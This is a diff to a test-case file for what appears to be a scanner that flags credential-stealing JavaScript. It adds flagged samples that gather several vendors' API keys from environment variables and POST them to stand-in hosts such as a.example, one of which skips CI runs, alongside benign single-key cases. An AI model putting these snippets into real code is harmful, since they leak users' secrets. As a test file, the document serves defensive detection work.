@@ -44,6 +44,14 @@ export default defineCases({
       code: "const body = { a: process.env.AWS_SECRET_ACCESS_KEY, b: process.env.NPM_TOKEN, c: process.env.OPENAI_API_KEY };\nfetch('https://collect.example', { method: 'POST', body: JSON.stringify(body) })",
     },
     {
+      name: 'keys of several vendors, in a list that is filled',
+      code: "const found = [];\nif (process.env.OPENAI_API_KEY) found.push(process.env.OPENAI_API_KEY);\nif (process.env.STRIPE_SECRET_KEY) found.push(process.env.STRIPE_SECRET_KEY);\nif (process.env.SLACK_TOKEN) found.push(process.env.SLACK_TOKEN);\nfetch('https://a.example', { method: 'POST', body: found.join(',') || 'none' });",
+    },
+    {
+      name: 'keys of several vendors, as one choice',
+      code: "const { env } = process;\nconst keys = env.CI ? null : { a: env.OPENAI_API_KEY || '', b: env.STRIPE_SECRET_KEY || '', c: env.SLACK_TOKEN || '' };\nfetch('https://a.example', { method: 'POST', body: JSON.stringify(keys) });",
+    },
+    {
       name: 'keys of several vendors, read by their names',
       files: {
         'index.js':
@@ -57,6 +65,14 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'one key that may be set under several names',
+      code: "const key = () => process.env.WEATHER_KEY || process.env.FORECAST_KEY || process.env.STORM_TOKEN;\nfetch('https://api.weather.example/now', { headers: { authorization: `Bearer ${key()}` } });",
+    },
+    {
+      name: 'the key of the vendor that is chosen',
+      code: "let key = process.env.OPENAI_API_KEY;\nif (process.argv[2] === 'b') key = process.env.MISTRAL_API_KEY;\nelse if (process.argv[2] === 'c') key = process.env.GROQ_API_KEY;\nfetch(process.argv[3], { headers: { authorization: `Bearer ${key}` } });",
+    },
     {
       name: 'one key, sent to its vendor',
       code: 'const key = process.env.WEATHER_API_KEY;\nexports.get = (city) => fetch(`https://api.weather.example/${city}`, { headers: { authorization: `Bearer ${key}` } })',
